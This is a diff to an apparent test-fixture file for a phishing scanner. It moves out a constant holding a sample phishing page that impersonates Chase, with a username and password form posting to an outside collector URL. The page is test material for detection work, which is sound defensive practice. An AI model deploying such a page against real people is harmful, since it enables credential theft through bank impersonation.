@@ -1,16 +1,11 @@
 import { crc32, deflateSync } from 'node:zlib';
 import MailComposer from 'nodemailer/lib/mail-composer/index.js';
 import QRCode from 'qrcode';
+import { LOGIN_PAGE } from '@riskscan/scanner/testing';
 
 function compose(options: ConstructorParameters<typeof MailComposer>[0]): Promise<Buffer> {
   return new MailComposer(options).compile().build();
 }
-
-/** The sign-in page an HTML attachment phish opens: a local form posting to the collector. */
-export const LOGIN_PAGE = `<!doctype html><html><head><title>Secure Message</title></head><body>
-<h1>Chase secure document</h1><p>Sign in to view your statement.</p>
-<form method="post" action="https://statement-viewer.example-docs.top/collect.php">
-<input name="user"><input type="password" name="pass"><button>View</button></form></body></html>`;
 
 /**
  * A phishing message as it reaches a mailbox: a display name naming the bank, SPF and DMARC
